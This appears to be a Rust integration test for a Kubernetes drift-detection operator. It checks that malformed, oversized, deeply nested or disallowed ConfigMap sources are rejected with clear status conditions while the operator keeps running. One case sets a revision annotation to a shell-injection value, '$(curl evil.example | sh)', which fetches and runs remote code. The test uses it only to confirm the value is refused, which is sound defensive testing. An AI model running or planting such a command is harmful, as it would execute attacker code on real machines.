//! Bad input in a DesiredState's sources, against the real operator: each
//! kind of bad source gives a clear `SourceValid=False` and one
//! `SourceInvalid` Event (or, where the input is legal, a clean parse), the
//! operator keeps running, and nothing of the bad content is acted on: the
//! last verified state is still enforced, so drift made while the source is
//! broken is still seen (and, these states only reporting, reported).
//!
//! Malformed YAML in one key and an object in another namespace, with the
//! last good observation kept, are in `drift_sources.rs`.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::time::Duration;

use driftwarden_dev::controlplane::User;
use driftwarden_dev::controlplane::operator::OPERATOR_NAMESPACE;
use k8s_openapi::ByteString;
use k8s_openapi::api::core::v1::ConfigMap;
use kube::api::{Patch, PatchParams, PostParams};
use serde_json::json;

use crate::common::{AccessTest, condition, drift_setup};
use crate::support::http_get;

/// The revision a legal replacement source carries.
const NEW_REVISION: &str = "feedbeef";

/// What the broken source holds and what the operator must say about it.
struct Case {
    name: &'static str,
    /// `data` keys besides the good one, which stays.
    data: Vec<(&'static str, String)>,
    binary_data: Vec<(&'static str, Vec<u8>)>,
    /// Replaces the revision annotation.
    revision: Option<&'static str>,
    /// Extra data of the managed object (the 1 MiB case declares it all).
    target_data: BTreeMap<String, String>,
    expect: Expect,
}

enum Expect {
    /// `SourceValid=False` with each of these in its message.
    Invalid(Vec<String>),
    /// Legal input: valid, managing this many objects, all in sync.
    Valid { managed: i64 },
}

impl Case {
    fn new(name: &'static str, expect: Expect) -> Self {
        Case { name, data: vec![], binary_data: vec![], revision: None, target_data: BTreeMap::new(), expect }
    }

    fn data(mut self, key: &'static str, text: String) -> Self {
        self.data.push((key, text));
        self
    }

    fn binary(mut self, key: &'static str, bytes: Vec<u8>) -> Self {
        self.binary_data.push((key, bytes));
        self
    }

    fn target(&self) -> String {
        format!("{}-target", self.name)
    }

    fn source(&self) -> String {
        format!("{}-source", self.name)
    }
}

fn invalid(fragments: &[&str]) -> Expect {
    Expect::Invalid(fragments.iter().map(|f| (*f).to_owned()).collect())
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// The manifest of a ConfigMap named `name` with `data`.
fn config_map_yaml(name: &str, data: &BTreeMap<String, String>) -> String {
    serde_yaml_ng::to_string(
        &json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": data}),
    )
    .unwrap()
}

fn cases() -> Vec<Case> {
    let mode_fast = BTreeMap::from([("mode".to_owned(), "fast".to_owned())]);
    let target = |name: &str| config_map_yaml(&format!("{name}-target"), &mode_fast);
    let mut one_mib = Case::new("one-mib", Expect::Valid { managed: 1 });
    one_mib.target_data = (0..1000).map(|i| (format!("key-{i:04}"), "v".repeat(1000))).collect();
    one_mib.target_data.insert("mode".into(), "fast".into());
    let big = config_map_yaml(&one_mib.target(), &one_mib.target_data);
    let mut garbage_revision = Case::new(
        "garbage-revision",
        invalid(&["annotation driftwarden.io/revision: character '$' at byte 0 is not allowed"]),
    );
    garbage_revision.revision = Some("$(curl evil.example | sh)\u{202e}");
    let huge_kind = format!("apiVersion: v1\nkind: {}\nmetadata: {{name: a}}\n", "K".repeat(4 << 20));
    let cluster_scoped = format!("is cluster-scoped; only a DesiredState in namespace {OPERATOR_NAMESPACE} may");
    vec![
        Case::new("malformed-yaml", invalid(&["key broken.yaml document 1: invalid YAML"]))
            .data("broken.yaml", format!("{}---\nkind: [ConfigMap\nmetadata: {{name: x}}\n", target("other"))),
        Case::new("binary-junk", invalid(&["key junk.bin: not UTF-8 text (invalid byte at offset 0)"]))
            .binary("junk.bin", (0..=255u8).rev().cycle().take(4096).collect()),
        Case::new("bad-gzip", invalid(&["key state.yaml.gz: invalid gzip data"]))
            .binary("state.yaml.gz", [&[0x1f, 0x8b, 0x08, 0x00][..], &[0xa5; 512]].concat()),
        // Before the fix the message quoted the 4 MiB kind, and the status
        // write failed (413): no condition, no Event, a retry every 2 s.
        Case::new("huge-field", invalid(&["key big.yaml.gz document 0: kind is 4194304 bytes long (at most 63)"]))
            .binary("big.yaml.gz", gzip(huge_kind.as_bytes())),
        Case::new(
            "one-mib-junk",
            invalid(&["key junk.yaml document 0: expected an object (a mapping), found a string"]),
        )
        .data("junk.yaml", "x".repeat(1_000_000)),
        one_mib.data("good.yaml", big),
        Case::new("many-documents", Expect::Valid { managed: 1 })
            .data("good.yaml", format!("{}---\n{}", "---\n# nothing here\n".repeat(9_999), target("many-documents"))),
        Case::new(
            "many-bad-documents",
            invalid(&["key tiny.yaml document 0: expected an object", "... and 9990 more"]),
        )
        .data("tiny.yaml", "---\n1\n".repeat(10_000)),
        Case::new(
            "deep",
            invalid(&[
                "key deep.json document 0: nested deeper than 100 levels",
                "key deep.yaml document 0: nested deeper than 100 levels",
                "key indented.yaml document 0: nested deeper than 100 levels",
            ]),
        )
        .data("deep.json", format!("{}1{}", r#"{"a":"#.repeat(50_000), "}".repeat(50_000)))
        .data("deep.yaml", format!("spec: {}", "[".repeat(300_000)))
        .data("indented.yaml", (0..150).map(|level| format!("{}- \n", "  ".repeat(level))).collect()),
        Case::new("duplicate", invalid(&["key good.yaml document 0: core/ConfigMap", "is declared twice (first in"]))
            .data("again.yaml", target("duplicate")),
        Case::new("unknown-kind", invalid(&["unknown kind Widget in example.com/v1 (not served by the API server)"]))
            .data("widget.yaml", "apiVersion: example.com/v1\nkind: Widget\nmetadata: {name: w}\n".into()),
        Case::new("cluster-scoped", invalid(&[&cluster_scoped])).data(
            "role.yaml",
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: tenant-admin}\n".into(),
        ),
        garbage_revision,
    ]
}

/// Everything about one case, from a valid start to the broken source.
async fn run(t: &AccessTest, case: &Case) {
    let admin = t.env.api::<ConfigMap>(User::Admin).await;
    let mut target_data = case.target_data.clone();
    target_data.insert("mode".into(), "fast".into());
    // Applied as `kubectl apply --server-side` would, and declared as applied
    // (a field Git does not declare is drift, whoever applied it).
    let target =
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": case.target()}, "data": target_data});
    admin.patch(&case.target(), &PatchParams::apply("kubectl"), &Patch::Apply(target)).await.unwrap();
    let good = config_map_yaml(&case.target(), &target_data);
    t.desired_state(case.name, &[("good.yaml", good.clone())], json!([])).await;
    let in_sync = |s: &driftwarden::api::DesiredStateStatus| s.managed == Some(1) && s.drifted == Some(0);
    t.wait_for_status(case.name, Duration::from_secs(60), in_sync).await;

    // Break the source (or feed it legal but unusual input).
    let mut source = admin.get(&case.source()).await.unwrap();
    let data = source.data.get_or_insert_default();
    for (key, text) in &case.data {
        data.insert((*key).to_owned(), text.clone());
    }
    let binary: BTreeMap<String, ByteString> =
        case.binary_data.iter().map(|(key, bytes)| ((*key).to_owned(), ByteString(bytes.clone()))).collect();
    source.binary_data = (!binary.is_empty()).then_some(binary);
    // A legal source gets a new revision, so its status can be told from the old one's.
    let revision = case.revision.unwrap_or(NEW_REVISION);
    source.metadata.annotations.get_or_insert_default().insert("driftwarden.io/revision".into(), revision.into());
    // Signed by the publisher: the parser, not the signature check, refuses it.
    t.operator.publisher.sign(&t.env.namespace, std::slice::from_mut(&mut source));
    admin.replace(&case.source(), &PostParams::default(), &source).await.unwrap();

    match &case.expect {
        Expect::Valid { managed } => {
            let status = t
                .wait_for_status(case.name, Duration::from_secs(60), |s| {
                    s.revision.as_deref() == Some(NEW_REVISION) && s.managed == Some(*managed) && s.drifted == Some(0)
                })
                .await;
            assert_eq!(condition(&status, "SourceValid").unwrap().status, "True", "{}", case.name);
        }
        Expect::Invalid(fragments) => {
            let status = t
                .wait_for_status(case.name, Duration::from_secs(60), |s| {
                    condition(s, "SourceValid").is_some_and(|c| c.status == "False")
                })
                .await;
            let message = &condition(&status, "SourceValid").unwrap().message;
            for fragment in fragments {
                assert!(message.contains(fragment.as_str()), "{}: expected {fragment:?} in {message:?}", case.name);
            }
            assert!(message.len() < 16 * 1024, "{}: a condition message of {} bytes", case.name, message.len());
            assert_eq!(status.managed, Some(1), "{}: the last good observation is kept", case.name);
            let events = t.events_until(case.name, |e| e.iter().any(|e| e.starts_with("SourceInvalid: "))).await;
            let invalid: Vec<&String> = events.iter().filter(|e| e.starts_with("SourceInvalid: ")).collect();
            assert_eq!(invalid.len(), 1, "{}: {events:#?}", case.name);
            assert!(invalid[0].starts_with("SourceInvalid: configmap"), "{}: {}", case.name, invalid[0]);
        }
    }
}

/// Drift the managed object by hand while its source is broken.
async fn drift(t: &AccessTest, case: &Case) -> String {
    let admin = t.env.api::<ConfigMap>(User::Admin).await;
    let patch = Patch::Merge(json!({"data": {"mode": "slow"}}));
    let patched = admin.patch(&case.target(), &PatchParams::default(), &patch).await.unwrap();
    patched.metadata.resource_version.unwrap()
}

#[tokio::test]
async fn bad_sources_are_refused_clearly_and_change_nothing() {
    let t = drift_setup("bad-sources").await;
    let cases = cases();
    futures::future::join_all(cases.iter().map(|case| run(&t, case))).await;

    let broken: Vec<&Case> = cases.iter().filter(|c| matches!(c.expect, Expect::Invalid(_))).collect();
    let versions = futures::future::join_all(broken.iter().map(|case| drift(&t, case))).await;
    // Time enough for a watch event, a reconcile and a revert, were any due.
    tokio::time::sleep(Duration::from_secs(5)).await;
    let admin = t.env.api::<ConfigMap>(User::Admin).await;
    for (case, version) in broken.iter().zip(versions) {
        let target = admin.get(&case.target()).await.unwrap();
        assert_eq!(
            target.metadata.resource_version,
            Some(version),
            "{}: a reporting state wrote the object",
            case.name
        );
        assert_eq!(target.data.unwrap()["mode"], "slow", "{}", case.name);
        // The last good state is still enforced: the drift is seen (and,
        // as these DesiredStates only report, reported).
        let status = t.wait_for_status(case.name, Duration::from_secs(30), |s| s.drifted == Some(1)).await;
        assert_eq!(status.drifted_objects[0].object.name, case.target(), "{}", case.name);
    }

    // The operator is still up and still reconciles valid states.
    assert!(!t.operator.operator_exited(), "the operator exited");
    assert_eq!(http_get(t.operator.http_port, "/healthz"), Some((200, "ok".to_string())));
    let alive = config_map_yaml("alive-target", &BTreeMap::from([("mode".into(), "fast".into())]));
    t.kubectl(&["apply", "-f", "-"], Some(&alive));
    t.desired_state("alive", &[("good.yaml", alive.clone())], json!([])).await;
    t.wait_for_status("alive", Duration::from_secs(30), |s| s.managed == Some(1) && s.drifted == Some(0)).await;
}
